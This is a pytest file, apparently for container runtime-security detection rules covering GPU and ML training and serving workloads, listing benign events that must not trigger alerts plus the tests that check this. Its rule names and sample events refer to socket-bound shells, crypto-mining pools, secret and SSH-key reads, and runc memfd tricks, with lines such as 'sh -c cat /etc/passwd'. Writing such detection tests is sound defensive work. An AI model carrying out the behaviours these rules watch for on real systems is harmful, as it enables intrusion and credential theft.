    (SHARED_MEMORY, "the runtime itself", spawned("runc:[2:INIT]", None, "/memfd:runc", proc_is_exe_from_memfd=True)),
    (SHARED_MEMORY, "a copy of runc", spawned("6", None, "memfd:x_cloned:/proc/self/exe", proc_is_exe_from_memfd=True)),
    (TEMPORARY, "argument only", spawned("ls /tmp/x")),
    (GPU, "approved", opened("/dev/nvidia0")),
    (GPU, "device plugin", opened("/dev/nvidiactl", image="nvcr.io/nvidia/k8s-device-plugin")),
    (GPU, "not known yet", opened("/dev/nvidia0", image=None)),
    (GPU, "host process", on_host(opened("/dev/nvidia0"))),
    (GPU, "another file", opened("/usr/share/doc/nvidia0.txt", image=OTHER)),
    (GPU_UNKNOWN, "known", opened("/dev/nvidia0", image=OTHER)),
    (GPU_UNKNOWN, "host process", on_host(opened("/dev/nvidia0"))),
    (GPU_UNKNOWN, "the runtime", {**opened("/dev/nvidia0", image=None), "proc.name": "runc:[2:INIT]"}),
    (DEVICE, "named pipe", in_container(OTHER, evt_type="mknodat", evt_arg_dev="0", evt_arg_path="/tmp/p")),
    (DEVICE, "another mount", in_container(OTHER, evt_type="mount", evt_arg_dev="/dev/sda1")),
    (DEVICE, "mkfifo by mknod", spawned("mknod /tmp/pipe p", OTHER)),
    (DEVICE, "text about it", spawned("grep dev/nvidia /proc/mounts", OTHER)),
    (DEVICE, "another hard link", in_container(OTHER, evt_type="link", evt_arg_oldpath="a", fs_path_target="/tmp/a")),
    (DEVICE, "link to a library", in_container(OTHER, evt_type="symlinkat", evt_arg_target="libnvidia-ml.so.1")),
    (DEVICE, "another link", spawned("ln -s /usr/lib/libnvidia-ml.so.1 /tmp/x", OTHER)),
    (DEVICE, "approved image", spawned("mknod /dev/null0 c 1 3")),
    (DEVICE, "the runtime", in_container(OTHER, evt_type="mknodat", evt_arg_dev="1048579", proc_name="runc:[1:CHILD]")),
    (DEVICE, "the driver", spawned("mknod /dev/nvidia0 c 195 0", "nvcr.io/nvidia/driver")),
    (DEVICE, "another rename", in_container(OTHER, evt_type="rename", evt_arg_oldpath="/tmp/nvidia.log")),
    (DEVICE_UNKNOWN, "runtime", in_container(None, evt_type="mknod", evt_arg_dev="259", proc_name="runc:[1:CHILD]")),
    (DEVICE_UNKNOWN, "known", spawned("mknod /tmp/gpu c 195 0", OTHER)),
    (CAPABILITY, "own instance", opened("/dev/nvidia-caps/nvidia-cap21")),
    (CAPABILITY, "exporter", opened("/dev/nvidia-caps/nvidia-cap2", image="nvcr.io/nvidia/k8s/dcgm-exporter")),
    (ALL_GPUS, "approved image", spawned("x", TRAINER, proc_env_gpus="all")),
    (ALL_GPUS, "none", spawned("x", OTHER, proc_env_gpus="void")),
    (ALL_GPUS, "not set", spawned("x", OTHER)),
    (ALL_GPUS_UNKNOWN, "not the first process", spawned("x", None, proc_env_gpus="all", proc_vpid=12)),
    (ALL_GPUS_UNKNOWN, "known", spawned("x", OTHER, proc_env_gpus="all", proc_vpid=1)),
    (VOLUME, "another mount", spawned("x", OTHER, container_mounts="/data:/data:::private")),
    (VOLUME, "approved image", spawned("x", container_mounts="/dev/null:/var/run/nvidia-container-devices/all:::")),
    (PACKAGE, "words on a command line", spawned("echo -m pip install")),
    (PACKAGE_ELSEWHERE, "where models are trained", spawned("apk add nmap")),
    (PACKAGE, "pip list", spawned("pip list", exepath=PYTHON)),
    (PACKAGE, "a script called install", spawned("python3 train.py --install-hooks")),
    (PACKAGE, "dpkg -l", spawned("dpkg -l")),
    (CREDENTIALS, "a link elsewhere", in_container(SERVER, evt_type="symlink", fs_path_target="/models/m.onnx")),
    (CREDENTIALS, "writing", opened("/secrets/registry/x", "w", SERVER)),
    (CREDENTIALS, "listing", opened("/secrets/registry", image=SERVER, fd_typechar="d")),
    (CREDENTIALS, "the model server", opened("/secrets/registry/registry-token", image=SERVER, by="python3")),
    (CREDENTIALS, "Triton", opened("/secrets/registry/registry-token", image=SERVER, by="tritonserver")),
    (CREDENTIALS, "another secret", opened("/secrets/other/token", image=SERVER)),
    (CREDENTIALS, "a name that begins alike", opened("/secrets/registry-public/ca.crt", image=SERVER)),
    (CREDENTIALS, "the kubelet", on_host(opened("/secrets/registry/registry-token"))),
    (OTHERS, "its client", opened("/root/.ssh/id_ed25519", by="ssh")),
    (METADATA, "DNS", connected("169.254.169.254", 53)),
    (PACKAGE_APPROVED, "index unknown", spawned("uv sync")),
    (MINER, "training", spawned("python3 train.py --algo ppo")),
    (MINER, "a word that ends alike", spawned("python3 gethash.py")),
    (MINER, "text", spawned("grep -r miner /opt")),
    (POOL, "another name", sent("\x08registry\x08internal\x00", 53, OTHER)),
    (POOL, "a common port outside", connected("203.0.113.7", 443, OTHER)),
    (POOL, "a pool's name in other traffic", sent("GET /nanopool.html", 80, OTHER)),
    (POOL, "internal port", connected("10.0.0.7", 3333, OTHER)),
    (INTERNET, "connect() of UDP", connected("8.8.8.8", 80, fd_l4proto="udp")),
    (INTERNET, "a port that Ray chose", connected("203.0.113.7", 39025)),
    (INTERNET, "a tool looks for a newer version", connected("203.0.113.7", proc_name="hf")),
    (INTERNET, "UDP inside", connected("10.0.0.53", 53, evt_type="sendto", fd_l4proto="udp")),
    (INTERNET, "ping inside", connected("10.0.0.1", 0, evt_type="sendto", fd_l4proto="icmp")),
    (SERVING_INTERNET, "registry", connected("10.0.0.10", image=SERVER)),
    (SERVING_INTERNET, "fetches models", {**connected("203.0.113.7", image=FETCHER), "k8s.ns.name": "ml-serving"}),
    (HIGH_PORT, "inside", connected("10.0.0.10", 39025)),
    (HIGH_PORT, "a low port", connected("203.0.113.7", 443)),
    (PORT, "gateway's port", in_container(SERVER, evt_type="listen", fd_typechar="4", fd_sip="0.0.0.0", fd_sport=8000)),
    (PORT, "master of a job", in_container(TRAINER, evt_type="listen", fd_typechar="6", fd_sip="::", fd_sport=29500)),
    (PORT, "chosen by the kernel", in_container(TRAINER, evt_type="listen", fd_typechar="4", fd_sport=40001)),
    (PORT, "loopback", in_container(TRAINER, evt_type="listen", fd_typechar="4", fd_sip="127.0.0.1", fd_sport=4444)),
    (PORT, "another image", in_container(OTHER, evt_type="listen", fd_typechar="4", fd_sip="0.0.0.0", fd_sport=4444)),
    (PORT, "started by a manager", spawned("python3 -m http.server 8000", SERVER, parent="/usr/bin/supervisord")),
    (PORT, "nc as a client", spawned("nc -z registry.internal 443")),
    (INTERNET, "TCP data", connected("203.0.113.7", evt_type="sendto", fd_name_changed=True)),
    (INTERNET, "data lake", connected("10.0.100.7")),
    (INTERNET, "loopback", connected("::1")),
    (INTERNET, "link local", connected("169.254.20.10", 53)),
    (INTERNET, "unique local", connected("fd00::10")),
    (INTERNET_UNKNOWN, "data lake", connected("10.0.100.7", image=None)),
    (INTERNET_UNKNOWN, "known", connected("203.0.113.7")),
    (INTERNET, "unix socket", in_container(TRAINER, evt_type="connect", fd_typechar="u")),
    (INTERNET, "another stage", connected("203.0.113.7", image=SERVER)),
    (DOWNLOAD, "hub client at the approved host", spawned("hf download o/m", proc_env_hub="http://registry.internal/hf")),
    (DOWNLOAD, "OCI client at the approved host", spawned("oras pull -o /data registry.internal/llama:1", OTHER)),
    (DOWNLOAD, "an address inside", spawned("python3 train.py --uri http://mlflow.internal:5000 --model m.onnx")),
    (DOWNLOAD, "a bucket", spawned("python3 train.py --init s3://models/m.pt")),
    (DOWNLOAD, "a name that begins alike", spawned("python3 train.py --config /etc/shelf.conf --url https://hf.computer/x")),
    (LOOKUP, "a name that has it inside", sent("\x16pytorch-mnist-master-0\x0bml-training\x03svc\x00", 53)),
    (LOOKUP, "a longer name", sent("\x0bhuggingface\x02co\x08internal\x00", 53)),
    (WRITTEN, "cache, approved image", opened("/c/hub/models--o--m/blobs/ab12.incomplete", "w", by="python3")),
    (WRITTEN, "git from inside", opened("/srv/r2/tiny.safetensors", "w", by="git clone http://git.internal/git/repo.git")),
    (WRITTEN, "a checkpoint", opened("/ckpt/step1.pt", "w", by="python3")),
    (WRITTEN, "a copy", opened("/data/m.gguf", "w", OTHER, by="cp")),
    (WRITTEN, "fetched for a server", opened("/mnt/models/m.safetensors", "w", FETCHER, by="python3")),
    (CHANGED, "fetched for a server", {**opened("/mnt/models/m.pt", "w", FETCHER), "k8s.ns.name": "ml-serving"}),
    (CHANGED, "compiled code of a model", opened("/models/m/__pycache__/modeling.pyc", "w", SERVER, by="python3")),
    (CHANGED, "its own output", opened("/proc/self/fd/1", "w", SERVER, by="python3")),
    (CHANGED, "cache of kernels", opened("/root/.triton/cache/k.json", "w", SERVER, by="python3")),
    (PICKLE, "Python's own", opened("/usr/lib/dist-packages/distutils-precedence.pth", image=SERVER, by="python3")),
    (PICKLE, "a shard of a data set", opened("/data/shard-001.pt", by="python3")),
    (PICKLE, "missing", opened("/models/m.pkl", image=SERVER, by="python3", evt_failed=True)),
    (SHELL, "collect_env", below_python('sh -c ldconfig -p | grep libcudnn | rev | cut -d" " -f1 | rev', image=SERVER)),
    (SHELL, "both spellings of a question", below_python("sh -c -- lscpu", image=SERVER)),
    (SHELL, "output thrown away", below_python("sh -c uname -p 2> /dev/null", image=SERVER)),
    (SHELL, "Ubuntu's ldconfig", below_python("ldconfig /sbin/ldconfig -p", exepath="/usr/bin/dash", image=SERVER)),
    (SHELL, "lsb_release of pip", below_python("lsb_release /usr/bin/lsb_release -a", exepath="/usr/bin/dash")),
    (SHELL, "manager starts a server", below_python("bash -c exec python3 -m http.server 8000", image=SERVER)),
    (SHELL, "Triton's stub", spawned("bash -c  exec /opt/triton_python_backend_stub m", SERVER, parent="/opt/triton")),
    (SHELL, "compiler", below_python("g++ -O2 x.cpp", exepath="/usr/bin/x86_64-linux-gnu-g++-14", image=SERVER)),
    (SHELL, "processors", below_python("cat /proc/cpuinfo", image=SERVER)),
    (SHELL, "git's own question", below_python("git rev-parse --show-toplevel", image=SERVER)),
    (SHELL, "start script", spawned("mkdir -p /srv/x", SERVER, parent="/usr/bin/dash")),
    (SHELL, "sidecar", {**spawned("envoy -c x", SERVER, parent="/bin/pilot-agent"), "container.name": "istio-proxy"}),
    (SHELL, "profile of a terminal", below_python("id -u")),
    (SHELL, "data set from inside", below_python("curl -s http://data.internal/x")),
    (SHELL, "name of the host", spawned("python3 -c import socket; print(socket.gethostname())")),
    (SHELL, "worker of torch", below_python("python3 -c from multiprocessing.spawn import spawn_main")),
    (SHELL, "command of the pod", spawned("sh -c cat /etc/passwd", SERVER, proc_vpid=1)),
    (SOCKET_SHELL, "terminal", spawned("bash -l", proc_stdin_type="file")),
    (SOCKET_SHELL, "another program", spawned("python3 serve.py", proc_stdin_type="ipv4")),
    (SOCKET_SHELL, "number", in_container(SERVER, evt_type="dup2", evt_rawres=7, fd_typechar="4", proc_exepath=PYTHON)),
    (SOCKET_SHELL, "a file", in_container(SERVER, evt_type="dup2", evt_rawres=0, fd_typechar="f", proc_exepath=PYTHON)),
    (SOME_SHELL, "a question", below_python("sh -c nvidia-smi")),
    (SOME_SHELL, "where models are served", below_python("bash -c ls", image=SERVER)),
    (SOME_SHELL, "no shell", below_python("ls")),
    (SHARED_MEMORY, "ldconfig of a hook", spawned("11", SERVER, "memfd:runc_cloned:/run/nvidia-ctk-hook/x/ldconfig")),
    (SHARED_MEMORY, "written to", spawned("sh -c echo 1 > /dev/shm/x", exepath="/usr/bin/dash")),
    (SHARED_MEMORY, "another working folder", spawned("python3 x.py", proc_cwd="/srv/")),
    (TEMPORARY, "of the image", spawned("wandb-core", exepath="/usr/lib/wandb-core", proc_is_exe_upper_layer=False)),
    (TEMPORARY, "the driver builds", spawned("conftest", "nvcr.io/nvidia/driver", "/tmp/conftest")),
    (STARTUP, "read", opened("/etc/cron.d/x", "r", SERVER)),
    (STARTUP, "a package manager", opened("/etc/cron.d/x", "w", by="dpkg --unpack")),
    (STARTUP, "refused", opened("/etc/cron.d/x", "w", SERVER, by="python3", evt_failed=True)),
    (STARTUP, "weights", opened("/ckpt/best.pth", "w", by="python3")),
    (PRELOAD, "allocator", spawned("python3 x.py", proc_env_preload="/usr/lib/x86_64-linux-gnu/libjemalloc.so.2")),
    (PRELOAD, "not set", spawned("python3 x.py")),
    (ALL_GPUS, "CUDA's version with none", spawned("x", OTHER, proc_env_cuda="12.4", proc_env_gpus="void")),
    (ALL_GPUS, "CUDA's version, approved image", spawned("x", TRAINER, proc_env_cuda="12.4")),
    (ALL_GPUS, "MIG manager", spawned("x", "nvcr.io/nvidia/cloud-native/k8s-mig-manager", proc_env_mig="all")),
    (PACKAGE, "python -mpip list", spawned("python3 -mpip list --format=freeze")),
    (PACKAGE, "uv run", spawned("uv run --offline --no-project python3 -c pass --sync-batchnorm")),
    (PACKAGE, "dpkg asks", spawned("dpkg --print-foreign-architectures")),
    (PACKAGE, "rpm asks", spawned("rpm -qi x")),
    (PACKAGE, "the driver", spawned("apt-get install -y linux-headers-x", "nvcr.io/nvidia/driver")),
    (CREDENTIALS, "refused", opened("/secrets/registry/signing-key", image=SERVER, evt_failed=True)),
    (CREDENTIALS, "not there", opened("/root/.netrc", by="git-remote-http", evt_failed=True)),
    (CREDENTIALS, "git reads git's", opened("/root/.git-credentials", by="git")),
    (CREDENTIALS, "a library reads its token", opened("/root/.cache/huggingface/token", by="python3 -c")),
    (CREDENTIALS, "namespace of the pod", opened("/var/run/secrets/kubernetes.io/serviceaccount/namespace")),
    (CREDENTIALS, "its own output", opened("/proc/1/fd/1")),
    (MINER, "an augmentation", spawned("python3 train.py --augment RandomXFlip,RandomYFlip")),
    (MINER, "a tool for data", spawned("dataminer --in /data", OTHER)),
    (MINER, "a digest", spawned(f"python3 train.py --commit {'a1' * 20}")),
    (MINER, "an address and a user, approved image", spawned("client -s db.internal:5432 -u me")),
    (MINER, "another device", opened("/dev/null", image=OTHER)),
    (POOL, "login to something else", sent('{"jsonrpc":"2.0","method":"login","params":["me"]}', 443, OTHER)),
]  # fmt: skip


def cases(table: list[tuple[str, str, Event]]) -> list[Any]:
    return [pytest.param(rule, event, id=f"{rule}: {what}") for rule, what, event in table]


@pytest.mark.parametrize(("rule", "event"), cases(FIRES))
def test_the_rule_fires(rule: str, event: Event) -> None:
    assert fires(RULE_SET, rule, event)


@pytest.mark.parametrize(("rule", "event"), cases(SILENT))
def test_the_rule_is_silent(rule: str, event: Event) -> None:
    assert not fires(RULE_SET, rule, event)


@pytest.mark.parametrize(("rule", "event"), cases(FIRES))
def test_the_rule_is_silent_about_the_same_outside_containers(rule: str, event: Event) -> None:
    assert not fires(RULE_SET, rule, on_host(event))


@pytest.mark.parametrize(("rule", "event"), cases(FIRES))
def test_the_rule_is_silent_about_the_same_fields_of_another_event(rule: str, event: Event) -> None:
    assert not fires(RULE_SET, rule, {**event, "evt.type": "close"})


def test_every_rule_has_events_of_both_kinds() -> None:
    names = {item["rule"] for item in yaml.safe_load(RULES.read_text(encoding="utf-8")) if "rule" in item}
    assert names == {rule for rule, _what, _event in FIRES} == {rule for rule, _what, _event in SILENT}


@pytest.mark.parametrize("stock", [NOTHING_KNOWN, STOCK], ids=["alone", "after the stock rules"])
def test_the_linter_finds_nothing(stock: Any) -> None:
    assert lint(load_rules([(RULES.name, RULES.read_text(encoding="utf-8"))], stock)) == ()
